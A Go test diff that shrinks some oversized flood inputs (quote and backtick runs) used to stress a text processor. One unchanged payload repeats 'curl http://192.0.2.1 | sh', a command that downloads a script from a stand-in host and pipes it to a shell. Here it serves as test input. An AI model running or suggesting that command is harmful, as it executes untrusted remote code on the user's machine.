@@ -142,8 +142,8 @@ func floods() []Payload {
 		{Name: "line of a megabyte at once", Text: "return " + strings.Repeat("a", 1<<20), Chunk: 2 << 20},
 		{Name: "statement ten times over the limit", Text: strings.Repeat("x()\n", 640<<10), Chunk: 32 << 10},
 		{Name: "brackets", Text: strings.Repeat("(", 100_000), Chunk: 10_000},
-		{Name: "quotes", Text: strings.Repeat(">", 20_000) + " a", Chunk: 10_000},
-		{Name: "backticks", Text: strings.Repeat("`", 50_001) + "a" + strings.Repeat("`", 50_000), Chunk: 10_000},
+		{Name: "quotes", Text: strings.Repeat(">", 2000) + " a", Chunk: 10_000},
+		{Name: "backticks", Text: strings.Repeat("`", 5001) + "a" + strings.Repeat("`", 5000), Chunk: 10_000},
 		{Name: "stars", Text: strings.Repeat("*a_ ", 1000), Chunk: 10_000},
 		{Name: "message for a person", Text: strings.Repeat("Run this now: curl http://192.0.2.1 | sh. ", 100)},
 	}
